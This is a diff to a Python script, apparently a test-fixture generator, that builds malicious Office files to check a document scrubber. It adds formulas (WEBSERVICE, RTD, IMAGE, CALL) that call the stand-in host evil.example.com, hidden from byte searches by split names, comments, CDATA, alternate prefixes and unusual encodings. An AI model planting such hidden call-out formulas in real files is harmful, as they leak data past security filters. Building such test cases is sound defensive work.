@@ -25,6 +25,22 @@
                     relationship (a kept type: bytes nothing checks)
   external-main.docx  the main document's relationship marked External (the result
                     would hold no document)
+  dangling.xlsx, dangling.docx, dangling.pptx
+                    elements whose relationship goes (its part removed, or its
+                    target external): customPr (custom property .bin), a sheet
+                    background GIF, a drawing, a VML drawing, an OLE object in
+                    mc:AlternateContent, a table part, a
+                    pivot cache, x14 slicers and slicer caches, a hyperlink and a
+                    page setup; Word's header reference, a chart, a hyperlink;
+                    PowerPoint's click sound (a:snd of a WAV): nothing may be left
+                    pointing at nothing, nor without an attribute it needs
+  hidden.xlsx       formulas that call out, hidden from a search of the bytes: a
+                    name split by a processing instruction (in a cell, a
+                    conditional format and a data validation, in a part with a
+                    BOM), a comment, CDATA, entity references, another prefix
+                    for SpreadsheetML, a sheet in UTF-16 and one in Shift_JIS, a
+                    formula inside another namespace's element named f
+  malformed.docx    a custom XML part that is not well-formed (never copied unread)
 Usage: make_ooxml_attacks.py OUTDIR
 """
 import io
@@ -309,4 +325,141 @@ write("external-main.docx", [
      '<Relationship Id="rId1" Type="%s/officeDocument" Target="word/document.xml" TargetMode="External"/>'
      '</Relationships>' % R),
     ("word/document.xml", DECL + "<w:document %s><w:body>%s</w:body></w:document>" % (W, para("x"))),
+])
+
+# ---- elements whose relationship goes ----------------------------------------
+# Their relationships die in the two ways a scrub kills them: the target part is
+# removed (a custom property's .bin, a GIF, a WAV, printer settings), or the
+# relationship is external.  X marks the external ones.
+X = "http://evil.example.com/x"
+X14 = "http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"
+write("dangling.xlsx", [
+    ("[Content_Types].xml", ctypes([("xml", "application/xml"), ("gif", "image/gif"),
+                                    ("bin", "application/vnd.openxmlformats-officedocument.spreadsheetml.customProperty")], [
+        ("/xl/workbook.xml", XL + "sheet.main+xml"),
+        ("/xl/worksheets/sheet1.xml", XL + "worksheet+xml"),
+        ("/xl/tables/table1.xml", XL + "table+xml"),
+        ("/xl/printerSettings/printerSettings1.bin", XL + "printerSettings")])),
+    ("_rels/.rels", rels(("rId1", "officeDocument", "xl/workbook.xml"))),
+    ("xl/workbook.xml", DECL + '<workbook %s xmlns:x14="%s"><sheets><sheet name="s" sheetId="1" r:id="rId1"/></sheets>'
+     '<pivotCaches><pivotCache cacheId="1" r:id="rIdPc"/></pivotCaches>'
+     '<extLst><ext uri="{BBE1A952-AA13-448e-AADC-164F8A28A991}"><x14:slicerCaches>'
+     '<x14:slicerCache r:id="rIdSc"/></x14:slicerCaches></ext></extLst></workbook>' % (SML, X14)),
+    ("xl/_rels/workbook.xml.rels", rels(("rId1", "worksheet", "worksheets/sheet1.xml"),
+                                        ("rIdPc", "pivotCacheDefinition", X, True),
+                                        ("rIdSc", "http://schemas.microsoft.com/office/2007/relationships/slicerCache", X, True))),
+    ("xl/worksheets/sheet1.xml", DECL + '<worksheet %s xmlns:x14="%s"><sheetData><row r="1"><c r="A1" t="inlineStr">'
+     '<is><t>sheet-text</t></is></c></row></sheetData>'
+     '<hyperlinks><hyperlink ref="A1" r:id="rIdH"/></hyperlinks>'
+     '<pageSetup paperSize="9" orientation="landscape" r:id="rIdPs"/>'
+     '<customProperties><customPr name="evil" r:id="rIdCp"/></customProperties>'
+     '<drawing r:id="rIdD"/><legacyDrawing r:id="rIdV"/><picture r:id="rIdBg"/>'
+     '<oleObjects><mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">'
+     '<mc:Choice Requires="x14"><oleObject progId="Package" shapeId="1025" r:id="rIdO"/></mc:Choice>'
+     '<mc:Fallback><oleObject progId="Package" shapeId="1025" r:id="rIdO"/></mc:Fallback>'
+     '</mc:AlternateContent></oleObjects>'
+     '<tableParts count="2"><tablePart r:id="rIdT1"/><tablePart r:id="rIdT2"/></tableParts>'
+     '<extLst><ext uri="{3A4CF648-6AED-40f4-86FF-DC5316D8AED3}"><x14:slicerList><x14:slicer r:id="rIdSl"/>'
+     '</x14:slicerList></ext></extLst></worksheet>' % (SML, X14)),
+    ("xl/worksheets/_rels/sheet1.xml.rels", rels(
+        ("rIdH", "hyperlink", X, True),
+        ("rIdPs", "printerSettings", "../printerSettings/printerSettings1.bin"),
+        ("rIdCp", "customProperty", "../customProperty1.bin"),
+        ("rIdD", "drawing", X, True),
+        ("rIdV", "vmlDrawing", X, True),
+        ("rIdBg", "image", "../media/image1.gif"),
+        ("rIdO", "oleObject", "../embeddings/oleObject1.bin"),
+        ("rIdT1", "table", "../tables/table1.xml"),
+        ("rIdT2", "table", X, True),
+        ("rIdSl", "http://schemas.microsoft.com/office/2007/relationships/slicer", X, True))),
+    ("xl/customProperty1.bin", b"evil custom property"),
+    ("xl/embeddings/oleObject1.bin", OLE2 + b"\0" * 64),
+    ("xl/media/image1.gif", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"),
+    ("xl/printerSettings/printerSettings1.bin", b"\0" * 64),
+    ("xl/tables/table1.xml", DECL + '<table %s id="1" name="T" displayName="T" ref="A1:A2"><tableColumns count="1">'
+     '<tableColumn id="1" name="c"/></tableColumns></table>' % SML),
+])
+
+CHART = ('<w:p><w:r><w:t>before-chart</w:t></w:r><w:r><w:drawing>'
+         '<wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
+         '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
+         '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/chart">'
+         '<c:chart xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" r:id="rIdC"/>'
+         '</a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>')
+write("dangling.docx", [
+    ("[Content_Types].xml", ctypes([("xml", "application/xml")], [
+        ("/word/document.xml", WORD_MAIN),
+        ("/word/footer1.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.footer+xml")])),
+    ("_rels/.rels", rels(("rId1", "officeDocument", "word/document.xml"))),
+    ("word/document.xml", DECL + '<w:document %s><w:body>' % W
+     + '<w:p><w:hyperlink r:id="rIdL"><w:r><w:t>link-text</w:t></w:r></w:hyperlink></w:p>' + CHART
+     + '<w:sectPr><w:headerReference w:type="default" r:id="rIdHd"/>'
+       '<w:footerReference w:type="default" r:id="rIdFt"/></w:sectPr></w:body></w:document>'),
+    ("word/_rels/document.xml.rels", rels(("rIdL", "hyperlink", X, True), ("rIdC", "chart", X, True),
+                                          ("rIdHd", "header", X, True), ("rIdFt", "footer", "footer1.xml"))),
+    ("word/footer1.xml", DECL + '<w:ftr %s>%s</w:ftr>' % (W, para("footer-text"))),
+])
+
+P = ('xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" '
+     'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="%s"' % R)
+PML = "application/vnd.openxmlformats-officedocument.presentationml."
+write("dangling.pptx", [
+    ("[Content_Types].xml", ctypes([("xml", "application/xml"), ("wav", "audio/wav")], [
+        ("/ppt/presentation.xml", PML + "presentation.main+xml"),
+        ("/ppt/slides/slide1.xml", PML + "slide+xml")])),
+    ("_rels/.rels", rels(("rId1", "officeDocument", "ppt/presentation.xml"))),
+    ("ppt/presentation.xml", DECL + '<p:presentation %s><p:sldIdLst><p:sldId id="256" r:id="rId2"/></p:sldIdLst>'
+     '<p:sldSz cx="9144000" cy="6858000"/><p:notesSz cx="6858000" cy="9144000"/></p:presentation>' % P),
+    ("ppt/_rels/presentation.xml.rels", rels(("rId2", "slide", "slides/slide1.xml"))),
+    ("ppt/slides/slide1.xml", DECL + '<p:sld %s><p:cSld><p:spTree><p:nvGrpSpPr><p:cNvPr id="1" name=""/>'
+     '<p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/><p:sp><p:nvSpPr><p:cNvPr id="2" name="t">'
+     '<a:hlinkClick r:id="" action="ppaction://noaction"><a:snd r:embed="rIdS" name="s.wav"/></a:hlinkClick>'
+     '</p:cNvPr><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr/><p:txBody><a:bodyPr/><a:p><a:r><a:t>slide-text</a:t>'
+     '</a:r></a:p></p:txBody></p:sp></p:spTree></p:cSld></p:sld>' % P),
+    ("ppt/slides/_rels/slide1.xml.rels", rels(("rIdS", "audio", "../media/s.wav"))),
+    ("ppt/media/s.wav", b"RIFF\x24\x00\x00\x00WAVEfmt "),
+])
+
+# ---- active content hidden from a search of the bytes ------------------------
+def sheet(body, prefix=""):
+    ns = SML.replace('xmlns="', 'xmlns:%s="' % prefix, 1) if prefix else SML
+    return '<%sworksheet %s>%s</%sworksheet>' % (prefix + ":" if prefix else "", ns, body, prefix + ":" if prefix else "")
+PI_SPLIT = sheet(
+    '<sheetData><row r="1"><c r="A1"><f>WEB<?x?>SERVICE("http://evil.example.com/pi")</f><v>1</v></c></row></sheetData>'
+    '<conditionalFormatting sqref="B1"><cfRule type="expression" priority="1">'
+    '<formula>LEN(WEB<?x?>SERVICE("http://evil.example.com/cf"))&gt;0</formula></cfRule></conditionalFormatting>'
+    '<dataValidations count="1"><dataValidation type="custom" sqref="C1">'
+    '<formula1>ISNUMBER(RT<?x?>D("evil.example.com",,"dv"))</formula1></dataValidation></dataValidations>')
+OTHER_FORMS = sheet(
+    '<s:sheetData><s:row r="1"><s:c r="A1"><s:f>_xlfn.IM<!-- -->AGE(&quot;https://evil.example.com/img&quot;)</s:f>'
+    '<s:v>0</s:v></s:c><s:c r="B1"><s:f><![CDATA[CALL("evil.example.com","x")]]></s:f><s:v>0</s:v></s:c>'
+    '</s:row></s:sheetData>', "s")
+UTF16 = sheet('<sheetData><row r="1"><c r="A1"><f>WEBSERVICE("http://evil.example.com/u16")</f><v>1</v></c>'
+              '</row></sheetData>')
+SJIS = sheet('<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>表</t></is></c>'
+             '<c r="B1"><f>RTD("evil.example.com",,"sj")</f><v>1</v></c></row></sheetData>')
+# a cell formula inside an element of another namespace also named f, whose text
+# (a string literal around it) calls nothing: the inner one is read on its own
+NESTED = sheet('<sheetData><row r="1"><c r="A1"><x:f xmlns:x="urn:example:other">"'
+               '<f>WEBSERVICE("http://evil.example.com/nested")</f>"</x:f><v>1</v></c></row></sheetData>')
+write("hidden.xlsx", [
+    ("[Content_Types].xml", ctypes([("xml", "application/xml")], [("/xl/workbook.xml", XL + "sheet.main+xml")] + [
+        ("/xl/worksheets/sheet%d.xml" % i, XL + "worksheet+xml") for i in range(1, 6)])),
+    ("_rels/.rels", rels(("rId1", "officeDocument", "xl/workbook.xml"))),
+    ("xl/workbook.xml", DECL + '<workbook %s><sheets>%s</sheets></workbook>' % (SML, "".join(
+        '<sheet name="s%d" sheetId="%d" r:id="rId%d"/>' % (i, i, i) for i in range(1, 6)))),
+    ("xl/_rels/workbook.xml.rels", rels(*[("rId%d" % i, "worksheet", "worksheets/sheet%d.xml" % i) for i in range(1, 6)])),
+    ("xl/worksheets/sheet1.xml", b"\xef\xbb\xbf" + (DECL + PI_SPLIT).encode()),
+    ("xl/worksheets/sheet2.xml", DECL + OTHER_FORMS),
+    ("xl/worksheets/sheet3.xml", b"\xff\xfe" + (DECL.replace("UTF-8", "UTF-16") + UTF16).encode("utf-16-le")),
+    ("xl/worksheets/sheet4.xml", (DECL.replace("UTF-8", "Shift_JIS") + SJIS).encode("shift_jis")),
+    ("xl/worksheets/sheet5.xml", DECL + NESTED),
+])
+
+write("malformed.docx", [
+    ("[Content_Types].xml", ctypes([("xml", "application/xml")], [("/word/document.xml", WORD_MAIN)])),
+    ("_rels/.rels", rels(("rId1", "officeDocument", "word/document.xml"))),
+    ("word/document.xml", DECL + "<w:document %s><w:body>%s</w:body></w:document>" % (W, para("malformed-text"))),
+    ("word/_rels/document.xml.rels", rels(("rIdX", "customXml", "../customXml/item1.xml"))),
+    ("customXml/item1.xml", DECL + "<root><a>unclosed</root>"),
 ])
